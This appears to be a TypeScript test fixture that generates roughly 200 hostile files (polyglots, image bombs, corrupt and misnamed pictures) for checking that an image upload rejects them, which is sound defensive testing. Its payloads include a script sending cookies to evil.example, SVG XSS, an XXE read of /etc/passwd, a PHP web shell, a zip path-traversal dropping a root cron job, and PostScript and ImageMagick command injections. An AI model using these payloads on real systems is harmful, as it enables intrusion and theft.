import { deflateSync, gzipSync } from 'node:zlib';
import { pictureBytesMax } from '@palaro/contract';
import sharp from 'sharp';

export type HostileFile = { readonly name: string; readonly type: string; readonly bytes: Buffer };
type Base = { readonly png: Buffer; readonly jpeg: Buffer };

const [png, jpeg] = ['image/png', 'image/jpeg'] as const;
const pngStart = Buffer.from('89504e470d0a1a0a', 'hex');

const crcOf = (bytes: Buffer): number => {
  let crc = 0xff_ff_ff_ff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xed_b8_83_20 : crc >>> 1;
  }
  return (crc ^ 0xff_ff_ff_ff) >>> 0;
};
const chunk = (name: string, content: Buffer): Buffer => {
  const [head, crc] = [Buffer.alloc(8), Buffer.alloc(4)];
  head.writeUInt32BE(content.length, 0);
  head.write(name, 4, 'latin1');
  crc.writeUInt32BE(crcOf(Buffer.concat([head.subarray(4), content])), 0);
  return Buffer.concat([head, content, crc]);
};
/** A PNG that says it is so large, with so many bytes of rows. */
const sizedPng = (width: number, height: number, rowBytes: number, depth = 1, colour = 0): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = depth;
  header[9] = colour;
  return Buffer.concat([
    pngStart,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(rowBytes))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};

const page = '<!doctype html><script>fetch("https://evil.example/?"+document.cookie)</script>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const entities =
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&c;&x;</svg>';
const zip = (name: string, content: string): Buffer => {
  const [local, central, end] = [Buffer.alloc(30), Buffer.alloc(46), Buffer.alloc(22)];
  const [file, body] = [Buffer.from(name), Buffer.from(content)];
  for (const [part, signature] of [
    [local, 0x04_03_4b_50],
    [central, 0x02_01_4b_50],
    [end, 0x06_05_4b_50],
  ] as const)
    part.writeUInt32LE(signature, 0);
  local.writeUInt32LE(body.length, 18);
  local.writeUInt32LE(body.length, 22);
  local.writeUInt16LE(file.length, 26);
  central.writeUInt16LE(file.length, 28);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + file.length, 12);
  end.writeUInt32LE(30 + file.length + body.length, 16);
  return Buffer.concat([local, file, body, central, file, end]);
};

/** What is no picture at all, whatever it is called. */
const strangers = async ({ png: good }: Base): Promise<readonly (readonly [string, Buffer])[]> => {
  const drawn = sharp(good);
  return [
    ['a page', Buffer.from(page)],
    ['a page with a mark of the byte order', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(page)])],
    ['a page in UTF-16', Buffer.from(page, 'utf16le')],
    ['a drawing with a script', Buffer.from(svg)],
    ['a drawing with entities', Buffer.from(entities)],
    ['a packed drawing', gzipSync(svg)],
    ['a script', Buffer.from('alert(document.domain)//')],
    ['a style sheet', Buffer.from('@import "https://evil.example/a.css";')],
    ['a program of a server', Buffer.from('<?php system($_GET["c"]); ?>')],
    ['a shell script', Buffer.from('#!/bin/sh\nid\n')],
    ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
    ['a Linux program', Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(200)])],
    ['an archive', zip('../../etc/cron.d/x', '* * * * * root id')],
    ['a Java archive', zip('META-INF/MANIFEST.MF', 'Main-Class: A')],
    ['a packed file', gzipSync(Buffer.alloc(5_000_000))],
    ['a document', Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')],
    ['a PostScript program', Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file')],
    ['a command of a converter', Buffer.from('push graphic-context\nimage over 0,0 0,0 "|id"\npop graphic-context')],
    ['a list of a player', Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd')],
    ['a GIF', await drawn.clone().gif().toBuffer()],
    ['a GIF that is a script', Buffer.from('GIF89a=1;alert(1)//')],
    ['a WebP', await drawn.clone().webp().toBuffer()],
    ['an AVIF', await drawn.clone().avif().toBuffer()],
    ['a TIFF', await drawn.clone().tiff().toBuffer()],
    ['a bitmap', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
    ['an icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(40)])],
    ['a film', Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypisom'), Buffer.alloc(60)])],
    ['nothing', Buffer.alloc(0)],
    ['one byte', Buffer.from([0x89])],
    ['zeros', Buffer.alloc(4096)],
    ['a font', Buffer.concat([Buffer.from('wOF2'), Buffer.alloc(60)])],
    ['a module of a browser', Buffer.concat([Buffer.from('0061736d01000000', 'hex'), Buffer.alloc(20)])],
    ['a sound', Buffer.concat([Buffer.from('ID3'), Buffer.alloc(60)])],
    ['a letter', Buffer.from('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>1</script>')],
  ];
};

/** Pictures that are something else too, since other programs read them from another place or in another way. */
const polyglots = ({ png: good, jpeg: photo }: Base): readonly HostileFile[] => {
  const tails: readonly (readonly [string, Buffer])[] = [
    ['a page', Buffer.from(page)],
    ['a drawing', Buffer.from(svg)],
    ['an archive', zip('a.html', page)],
    ['a program of a server', Buffer.from('<?php phpinfo(); ?>')],
    ['a document', Buffer.from('\n%PDF-1.7\n%%EOF')],
    ['a script', Buffer.from('*/alert(1)/*')],
    ['a packed file', gzipSync(page)],
    ['one byte', Buffer.from('x')],
    ['another PNG', good],
  ];
  return tails
    .flatMap(([what, tail]) => [
      { name: `a PNG, then ${what}`, type: png, bytes: Buffer.concat([good, tail]) },
      { name: `a JPEG, then ${what}`, type: jpeg, bytes: Buffer.concat([photo, tail]) },
      { name: `${what}, then a PNG`, type: png, bytes: Buffer.concat([tail, good]) },
      { name: `${what}, then a JPEG`, type: jpeg, bytes: Buffer.concat([tail, photo]) },
    ])
    .filter(({ name }) => name !== 'another PNG, then a PNG');
};

/** What says that it is far larger than it is, or is far larger than it says. */
const bombs = (): readonly HostileFile[] => {
  const edges: readonly (readonly [number, number])[] = [
    [5001, 5000],
    [10_000, 10_000],
    [30_000, 30_000],
    [65_535, 65_535],
    [1_000_000, 100],
    [100, 1_000_000],
    [2 ** 31 - 1, 2 ** 31 - 1],
    [2 ** 32 - 1, 1],
    [0, 100],
    [100, 0],
    [0, 0],
  ];
  return edges.flatMap(([width, height]) => [
    { name: `a PNG of ${width} by ${height} without rows`, type: png, bytes: sizedPng(width, height, 0) },
    { name: `a PNG of ${width} by ${height} with a few`, type: png, bytes: sizedPng(width, height, 100_000, 8, 6) },
  ]);
};

const jpegSized = (photo: Buffer, width: number, height: number): Buffer => {
  const bytes = Buffer.from(photo);
  for (let at = 2; at + 9 < bytes.length; at += 2 + bytes.readUInt16BE(at + 2)) {
    const marker = bytes[at + 1] ?? 0;
    if (marker === 0xda) break;
    if (marker < 0xc0 || marker > 0xc2) continue;
    bytes.writeUInt16BE(height, at + 5);
    bytes.writeUInt16BE(width, at + 7);
  }
  return bytes;
};

/** Pictures that are cut off, or corrupt where their parts are counted. */
const broken = ({ png: good, jpeg: photo }: Base): readonly HostileFile[] => {
  const shares = [0.02, 0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.97];
  const cut = shares.flatMap((share) => [
    { name: `a PNG cut off at ${share}`, type: png, bytes: good.subarray(0, Math.max(9, Math.floor(good.length * share))) },
    { name: `a JPEG cut off at ${share}`, type: jpeg, bytes: photo.subarray(0, Math.max(4, Math.floor(photo.length * share))) },
  ]);
  const corrupt = Array.from({ length: 16 }, (_, n) => {
    const bytes = Buffer.from(good);
    // The lengths of the first chunks, and the header's values.
    bytes[8 + n] = (bytes[8 + n] ?? 0) ^ 0xff;
    return { name: `a PNG with byte ${8 + n} turned`, type: png, bytes };
  });
  const sized = [
    [65_535, 65_535],
    [65_500, 400],
    [0, 0],
  ].map(([width = 0, height = 0]) => ({
    name: `a JPEG that says ${width} by ${height}`,
    type: jpeg,
    bytes: jpegSized(photo, width, height),
  }));
  return [
    ...cut,
    ...corrupt,
    ...sized,
    { name: 'the first bytes of a PNG alone', type: png, bytes: pngStart },
    { name: 'the first bytes of a JPEG alone', type: jpeg, bytes: Buffer.from('ffd8ff', 'hex') },
    { name: 'a JPEG of ends', type: jpeg, bytes: Buffer.from('ffd8ffd9ffd9', 'hex') },
    { name: 'a JPEG of endless markers', type: jpeg, bytes: Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(60_000, 0xff)]) },
    { name: 'a PNG of a chunk without an end', type: png, bytes: Buffer.concat([pngStart, Buffer.from('ffffffff49444154', 'hex')]) },
    { name: 'a PNG of no colours', type: png, bytes: sizedPng(8, 8, 64, 8, 3) },
    { name: 'a PNG of a depth that there is not', type: png, bytes: sizedPng(8, 8, 64, 7, 2) },
  ];
};

/** Good pictures that are sent as no picture, or are too large. */
const misnamed = ({ png: good, jpeg: photo }: Base): readonly HostileFile[] => [
  ...[
    'image/svg+xml',
    'image/gif',
    'image/webp',
    'image/*',
    'text/html',
    'text/plain',
    'application/json',
    'application/octet-stream',
    'multipart/form-data; boundary=a',
    'image/tiff',
    'video/mp4',
    'image/pngx',
    'x',
  ].flatMap((type) => [
    { name: `a PNG called ${type}`, type, bytes: good },
    { name: `a JPEG called ${type}`, type, bytes: photo },
  ]),
  { name: 'a PNG of a byte too many', type: png, bytes: Buffer.concat([good, Buffer.alloc(pictureBytesMax + 1 - good.length)]) },
  { name: 'a JPEG of 6 MB', type: jpeg, bytes: Buffer.concat([photo, Buffer.alloc(6 * 1024 * 1024)]) },
];

/** The pictures that hostile ones are made of. */
export const drawBase = async (): Promise<Base> => {
  const noise = { type: 'gaussian', mean: 120, sigma: 40 } as const;
  const drawn = sharp({ create: { width: 64, height: 48, channels: 3, background: '#c04020', noise } });
  return { png: await drawn.clone().png().toBuffer(), jpeg: await drawn.clone().jpeg().toBuffer() };
};

/** Files that must not be taken in as pictures: some 200 of them. */
export const hostileFiles = async (base: Base): Promise<readonly HostileFile[]> => {
  const renamed = (await strangers(base)).flatMap(([name, bytes]) => [
    { name: `${name} called a PNG`, type: png, bytes },
    { name: `${name} called a JPEG`, type: jpeg, bytes },
  ]);
  return [...renamed, ...polyglots(base), ...bombs(), ...broken(base), ...misnamed(base)];
};
